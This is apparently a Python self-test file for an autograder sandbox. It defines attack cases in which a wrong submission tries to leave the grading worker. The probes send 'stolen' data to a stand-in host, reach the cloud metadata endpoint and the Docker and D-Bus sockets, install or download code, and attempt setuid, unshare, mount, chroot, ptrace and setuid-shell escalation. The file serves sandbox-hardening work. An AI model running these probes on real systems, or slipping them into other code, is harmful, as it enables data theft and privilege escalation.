"""G: out of the worker, by the network or by privileges."""

from autograder.selftest.attack import Attack

WRONG = "\ndef double(x):\n    return x\n"

ATTACKS = [
    Attack("G01", "requests to the outside, and names as messages", WRONG + """
import socket, urllib.request
for way in (
    lambda: urllib.request.urlopen("http://203.0.113.1/?stolen", timeout=0.3),
    lambda: socket.getaddrinfo("stolen.example.org", 80),
    lambda: socket.create_connection(("203.0.113.1", 53), 0.3),
    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", ("203.0.113.1", 53)),
    lambda: socket.socket(socket.AF_INET6, socket.SOCK_STREAM),
    lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
    lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW),
):
    try:
        way()
        won("the network")
    except OSError:
        pass
"""),
    Attack("G02", "services of this machine", WRONG + """
import socket
for family, address in (
    ("AF_INET", ("127.0.0.1", @PORT@)), ("AF_INET", ("169.254.169.254", 80)), ("AF_UNIX", "@SOCKET@"),
    ("AF_UNIX", "\\0@ABSTRACT@"), ("AF_UNIX", "/var/run/docker.sock"), ("AF_UNIX", "/run/dbus/system_bus_socket"),
):
    try:
        with socket.socket(getattr(socket, family), socket.SOCK_STREAM) as client:
            client.settimeout(0.3)
            client.connect(address)
            client.sendall(b"stolen")
            won(address)
    except OSError:
        pass
"""),
    Attack("G03", "installing and downloading", WRONG + """
import subprocess, sys, torch
for way in (
    lambda: subprocess.run([sys.executable, "-m", "pip", "install", "nbgrader"], check=True, timeout=1),
    lambda: subprocess.run(["/bin/sh", "-c", "true"], check=True, timeout=1),
    lambda: torch.hub.load("pytorch/vision", "resnet18"),
    lambda: torch.hub.download_url_to_file("https://download.pytorch.org/models/resnet18-f37072fd.pth", "weights"),
):
    try:
        way()
        won("something was run or loaded")
    except Exception:
        pass
"""),
    Attack("G05", "privileges, namespaces, mounts, devices", WRONG + """
import ctypes, glob, os
libc = ctypes.CDLL(None, use_errno=True)
for name, way in {
    "setuid": lambda: os.setuid(0) or os.geteuid() == 0 and os.listdir("/root"),
    "setgroups": lambda: os.setgroups([0]) or True,
    "unshare": lambda: libc.unshare(0x10000000) == 0,
    "mount": lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0,
    "chroot": lambda: libc.chroot(b".") == 0,
    "ptrace": lambda: libc.ptrace(0, 0, 0, 0) == 0,
    "mknod": lambda: os.mknod("device", 0o60600, os.makedev(8, 0)) or True,
    "setuid bit": lambda: open("shell", "w").close() or os.chmod("shell", 0o6755) or os.stat("shell").st_mode & 0o6000
                          and os.stat("shell").st_uid == 0,
    "devices": lambda: [path for path in glob.glob("/dev/nvidia*") + glob.glob("/dev/sd*") if os.access(path, os.R_OK)],
    "nice": lambda: os.nice(-10) < 0,
}.items():
    try:
        if way():
            won(name)
    except (OSError, AttributeError):
        pass
"""),
]  # fmt: skip
